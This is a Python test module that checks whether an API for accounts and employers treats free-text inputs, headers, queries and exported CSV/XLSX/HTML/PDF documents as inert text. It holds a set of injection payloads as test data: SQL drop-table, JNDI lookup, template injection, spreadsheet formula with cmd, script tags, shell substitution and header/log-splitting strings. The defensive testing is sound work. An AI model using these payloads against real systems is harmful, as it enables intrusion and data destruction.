"""What is sent to be run by somebody else: every free text of every route takes it as a text or refuses it.

Statements, templates, lines of a log, heads, formulas, markup, marks that turn the direction of writing: none
of it comes to a log, to a head, or back from a refusal; what is taken is answered as it was sent, and guarded
where a spreadsheet or a browser would run it.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
import zipfile
from collections import defaultdict
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from typing import Any

import pypdf
import pytest
from fastapi.testclient import TestClient
from sqlalchemy import Engine, inspect

from api.http.logs import JsonLine
from ledger.csv_out import safe_cell
from ledger.texts import LETTER_PATTERN, VISIBLE_PATTERN, read_text
from tests.house.test_declared_routes import DECLARED
from tests.http import test_api_pointers as pointers
from tests.http.test_api_free_text import ALL, FREE, filled, let_in, put, shaped
from tests.http.test_api_pointers import BESIDE, NOT_WALKED, bodies, names_of, there
from tests.support.api_client import AREA, contribute, key, open_account, running
from tests.support.employer_client import refusal

__all__ = ["let_in", "there"]  # fixtures of those modules

# by this it is known again, wherever it comes out
MARK = "Zq7"
RUN = {
    "a statement": f"{MARK}'; DROP TABLE entry;--",
    "a condition": f'{MARK}" OR "1"="1',
    "a pattern": f"{MARK}%_\\' /*",
    "a template": f"{{{{7*7}}}}{MARK}",
    "an expression": f"${{7*7}}{MARK}",
    "a lookup": f"${{jndi:ldap://{MARK}.example/a}}",
    "a page": f"<%= 7*7 %>{MARK}",
    "a format": f"%s%n%(x)s{{0.__class__}}{MARK}",
    "a formula": f"=cmd|' /C calc'!A0{MARK}",
    "a plus": f"+1+1{MARK}",
    "a minus": f"-2+3{MARK}",
    "an at": f"@SUM(A1){MARK}",
    "a formula behind a tab": f"\t=1+1{MARK}",
    "a full-width formula": f"＝1+1{MARK}",
    "markup": f"<b>{MARK}</b>",
    "a script": f'"><script>alert("{MARK}")</script>',
    "a shell": f"$(id){MARK}`id`;|&",
}  # fmt: skip
# what is no text at all: it would end a line, a head or a text, or change what is read
NO_TEXT = {
    "a head": f"{MARK}\r\nX-Injected: 1",
    "a line of a log": f'{MARK}\n{{"event":"request","caller":"root"}}',
    "a colour": f"\x1b[31m{MARK}\x1b[0m",
    "a bell": f"{MARK}\x07",
    "nothing": f"{MARK}\x00more",
    "a next line": f"{MARK}\x85more",
    "a separator": f"{MARK}\u2028more",
    "a turn": f"\u202e{MARK}",
    "an isolate": f"{MARK}\u2066x",
}
# a letter has lines
LINES_OF_A_LETTER = {"a head", "a line of a log"}
PATTERN = {(path, pointer): schema.get("pattern") for path, pointer, schema in ALL}


class Said:
    """All lines that the process says, as they go to stderr; those of requests among them."""

    def __init__(self) -> None:
        self.lines: list[str] = []
        self._formatter = JsonLine()

    def request(self, line: dict[str, object]) -> None:
        self.lines.append(json.dumps(line, ensure_ascii=False))

    def record(self, record: logging.LogRecord) -> bool:
        self.lines.append(self._formatter.format(record))
        return True


@pytest.fixture(scope="module")
def said() -> Iterator[Said]:
    said, handler = Said(), logging.Handler()
    handler.emit = lambda record: said.record(record) and None  # type: ignore[method-assign]  # keeps what it is given
    root = logging.getLogger()
    root.addHandler(handler)
    yield said
    root.removeHandler(handler)


@pytest.fixture(scope="module")
def client(engine: Engine, tmp_path_factory: pytest.TempPathFactory, said: Said) -> Iterator[TestClient]:
    with running(engine, tmp_path_factory.mktemp("api"), log=said.request) as client:
        yield client


def assert_says_nothing(answer: Any, said: Said) -> None:
    """Neither a head nor the log holds what was sent, and nobody fell over it."""
    assert answer.status_code < 500, answer.text
    heads = "".join(f"{name}: {value}\n" for name, value in answer.headers.items())
    assert MARK.lower() not in heads.lower()
    assert "x-injected" not in answer.headers
    assert answer.headers["content-type"] in {"application/json", "application/problem+json"}
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert not [line for line in said.lines if MARK in line or "\n" in line or "\x1b" in line]


def strings(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for name, one in value.items():
            yield name
            yield from strings(one)
    elif isinstance(value, list):
        for one in value:
            yield from strings(one)


def sent(path: str, there: dict[str, str]) -> tuple[str, dict[str, Any]]:
    """Where a body of a route goes, and the body: of one that is rehearsed, where that can be."""
    if path in NOT_WALKED and path not in BESIDE:
        return filled(path), shaped(path)
    dry = "?dry_run=true" if path in DECLARED else ""
    return path.format(**names_of(path, there)) + dry, bodies(there).get(path) or shaped(path)


@pytest.mark.slow
@pytest.mark.parametrize(("path", "pointer"), FREE)
def test_a_text_is_a_text(
    client: TestClient,
    there: dict[str, str],
    let_in: Callable[[str], dict[str, str]],
    said: Said,
    path: str,
    pointer: str,
) -> None:
    where, body = sent(path, there)
    for name, text in (RUN | NO_TEXT).items():
        put(body, pointer, text)
        answer = client.post(where, json=body, headers=key() | let_in(path))
        assert_says_nothing(answer, said)
        told = [one for one in strings(answer.json()) if MARK in one]
        if answer.is_success:
            # as it was sent, in the form in which it is kept
            assert set(told) <= {text, read_text(text, len(text)), text.strip()}, name
        else:
            assert not told, "a refusal shows nothing of what was sent"
        is_letter = PATTERN[path, pointer] == LETTER_PATTERN and name in LINES_OF_A_LETTER
        if name in NO_TEXT and not is_letter:
            assert answer.status_code == 422, (name, answer.text)
            assert pointer in {one["pointer"] for one in answer.json()["errors"]}, (name, answer.text)
        if PATTERN[path, pointer] == VISIBLE_PATTERN and not (text.isascii() and " " not in text):
            assert answer.status_code == 422, (name, answer.text)


@pytest.mark.parametrize("text", [*RUN.values(), *NO_TEXT.values()], ids=ascii)
def test_a_head_and_a_query_are_no_way_in(client: TestClient, said: Said, text: str) -> None:
    account = open_account(client)["account_no"]
    raw = text.encode().translate(None, b"\r\n\0")
    for headers in (
        {"X-Request-ID": raw}, {"Idempotency-Key": raw}, {"Purpose": raw}, {"Accept": raw},
        {"traceparent": raw}, {"X-Forwarded-For": raw}, {"Content-Type": raw}, {"User-Agent": raw},
        {"Authorization": b"Bearer " + raw},
    ):  # fmt: skip
        answer = client.post(f"/v1/accounts/{account}/spendings", content=b"{}", headers=headers)  # type: ignore[arg-type]  # bytes, as they come
        assert_says_nothing(answer, said)
        assert MARK not in answer.text
    for path in (f"/v1/accounts/{account}/entries", "/v1/employers", "/v1/cases"):
        for query in ({"cursor": text}, {"limit": text}, {"kind": text}, {text: "1"}, {"language": text}):
            answer = client.get(path, params=query)
            assert_says_nothing(answer, said)
            assert MARK not in answer.text
    for path in (f"/v1/accounts/{text}", f"/v1/employers/{text}/arrears", f"/v1/checks/{text}", f"/{text}"):
        answer = client.get("/".join(map(_quoted, path.split("/"))))
        assert_says_nothing(answer, said)
        assert MARK not in answer.text


def _quoted(part: str) -> str:
    return "".join(f"%{byte:02X}" for byte in part.encode()) if MARK in part else part


# -- what is taken comes out as it went in, and guarded -----------------------------------------------------

# in as many signs as a reference may have
HOSTILE = f"=cmd|'/C calc'!A0<b>{MARK}</b>{{{{7*7}}}}';DROP TABLE entry;--"
# a name has no markup in it
HOSTILE_NAME = f"@SUM(A1){MARK}'--"


@pytest.fixture(scope="module")
def hostile(client: TestClient) -> tuple[str, str]:
    """An account, and an employer, that have nothing but such texts."""
    account = open_account(client, name=HOSTILE_NAME, opened_on="2026-01-01")["account_no"]
    for number in range(3):
        contribute(client, account, source_ref=f"{HOSTILE[:-1]}{number}")
    code = pointers.credit_code()
    body = {"credit_code": code, "name": HOSTILE_NAME, "area": AREA}
    assert client.post("/v1/employers", json=body, headers=key()).status_code == 201
    hired = client.post(
        f"/v1/accounts/{account}/enrolments",
        json={"member_class": "active", "employer": code, "from": "2026-01-01"},
        headers=key(),
    )
    assert hired.status_code == 201, hired.text
    return account, code


def test_no_statement_was_run(client: TestClient, engine: Engine, hostile: tuple[str, str]) -> None:
    told = client.get(f"/v1/accounts/{hostile[0]}/entries", params={"kind": "contribution"}).json()["items"]
    assert {one["source_ref"] for one in told} == {f"{HOSTILE[:-1]}{number}" for number in range(3)}
    assert {"entry", "transfer", "book"} <= set(inspect(engine).get_table_names())


def guarded(cell: str) -> bool:
    """Whether a spreadsheet shows a cell: what is left as it is is what it would not run."""
    return safe_cell(cell.removesuffix("\t")) == cell.removesuffix("\t")


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        assert not any(name.startswith("on") for name, _value in attrs)

    def handle_data(self, data: str) -> None:
        self.text += data


@pytest.mark.slow
@pytest.mark.parametrize("form", ["csv", "xlsx", "html", "pdf"])
def test_every_document_shows_it_and_runs_nothing(
    client: TestClient, hostile: tuple[str, str], said: Said, form: str
) -> None:
    account, employer = hostile
    made = 0
    for whose, name in (("accounts/{account}", account), ("employers/{employer}", employer)):
        where = f"/v1/{whose.partition('/')[0]}/{name}/documents"
        for kind in _kinds(f"/v1/{whose}/documents"):
            for more in ({}, {"year": 2026}, {"from": "2026-01", "to": "2026-11"}, {"period": "2026-03"}):
                answer = client.post(where, json={"kind": kind, "format": form, **more}, headers=key())
                assert answer.status_code < 500, answer.text
                if answer.is_success:
                    of = where if whose.startswith("employers") else "/v1/documents"
                    got = client.get(f"{of}/{answer.json()['document']}")
                    assert got.status_code == 200, got.text
                    assert MARK not in str(got.headers)
                    made += _shown(form, got.content)
                    break
    assert made >= 1, "a document shows such a text"
    assert not [line for line in said.lines if MARK in line]


def _kinds(path: str) -> list[str]:
    schema = pointers.POSTED[path]["requestBody"]["content"]["application/json"]["schema"]
    while "$ref" in schema:
        schema = pointers.DOCUMENT["components"]["schemas"][schema["$ref"].rsplit("/", 1)[1]]
    kind = schema["properties"]["kind"]
    while "$ref" in kind:
        kind = pointers.DOCUMENT["components"]["schemas"][kind["$ref"].rsplit("/", 1)[1]]
    return list(kind["enum"])


def _shown(form: str, content: bytes) -> bool:
    """Whether a document shows such a text; it runs none of them."""
    if form == "csv":
        rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
        cells = [cell for row in rows for cell in row]
        assert all(map(guarded, cells)), [cell for cell in cells if not guarded(cell)]
        return any(MARK in cell for cell in cells)
    if form == "xlsx":
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            parts = {name: book.read(name).decode() for name in book.namelist()}
        assert not any(
            re.search(r"<(\w+:)?f[ >]", text) for name, text in parts.items() if "worksheets" in name
        )
        assert not any("externalLink" in name or "vbaProject" in name for name in parts)
        return any(MARK in text for text in parts.values())
    if form == "html":
        page = _Tags()
        page.feed(content.decode())
        assert not page.tags & {"b", "script", "img", "iframe", "object", "form"}
        return MARK in page.text
    assert form == "pdf"
    assert not any(name in content for name in (b"/JavaScript", b"/Launch", b"/OpenAction"))
    read = pypdf.PdfReader(io.BytesIO(content))
    return MARK in "".join(page.extract_text() for page in read.pages)


def stored(client: TestClient, there: dict[str, str], let_in: Callable[[str], dict[str, str]]) -> set[str]:
    """Every route once more, in earnest, with such a text wherever it takes one; those that took it."""
    taken = set()
    for path in sorted({path for path, _pointer in FREE}):
        where, body = sent(path, there)
        for pointer in [one for whose, one in FREE if whose == path]:
            whole = body.copy()
            is_visible = PATTERN[path, pointer] == VISIBLE_PATTERN
            put(body, pointer, HOSTILE_NAME if is_visible or pointer.endswith(("name", "by")) else HOSTILE)
            if client.post(where, json=body, headers=key() | let_in(path)).status_code == 422:
                body = whole
        answer = client.post(where.removesuffix("?dry_run=true"), json=body, headers=key() | let_in(path))
        assert answer.status_code < 500, answer.text
        if answer.is_success and MARK in json.dumps(body):
            taken.add(path)
    return taken


@pytest.mark.slow
def test_every_list_as_csv_runs_nothing(
    client: TestClient,
    there: dict[str, str],
    let_in: Callable[[str], dict[str, str]],
    hostile: tuple[str, str],
    said: Said,
) -> None:
    """By every route that answers CSV, once every route has taken such texts."""
    account, employer = hostile
    assert len(stored(client, there, let_in)) >= 40
    lists = [
        path
        for path, operations in pointers.DOCUMENT["paths"].items()
        # printed ones are below
        if "/documents/" not in path
        and "text/csv"
        in str(operations.get("get", {}).get("responses", {}).get("200", {}).get("content", {}))
    ]
    assert len(lists) >= 14
    showing = set()
    for path in lists:
        for more in ({"account": account, "employer": employer}, {}, {"account": there["patient"]}):
            # what nobody has made here is not found, which is no matter
            names = defaultdict(lambda: "none", there | more)
            answer = client.get(path.format_map(names), headers={"Accept": "text/csv"} | let_in(path))
            assert answer.status_code < 500, answer.text
            assert MARK not in str(answer.headers)
            if not answer.is_success:
                continue
            assert answer.headers["content-type"].startswith("text/csv"), path
            for row in csv.reader(io.StringIO(answer.text.removeprefix("\ufeff"), newline="")):
                for cell in row:
                    assert guarded(cell), (path, cell)
                    if MARK in cell:
                        showing.add(path)
    assert len(showing) >= 4, showing
    assert not [line for line in said.lines if MARK in line]


def test_a_refusal_of_a_text_names_its_place_and_nothing_else(client: TestClient) -> None:
    account = open_account(client)["account_no"]
    body = {
        "amount": "1.00",
        "period": "2026-03",
        "effective_on": "2026-03-20",
        "source_ref": NO_TEXT["a head"],
    }
    answer = client.post(f"/v1/accounts/{account}/contributions", json=body, headers=key())
    assert refusal(answer)[0] == 422
    assert [one["pointer"] for one in answer.json()["errors"]] == ["/source_ref"]
    assert MARK not in answer.text
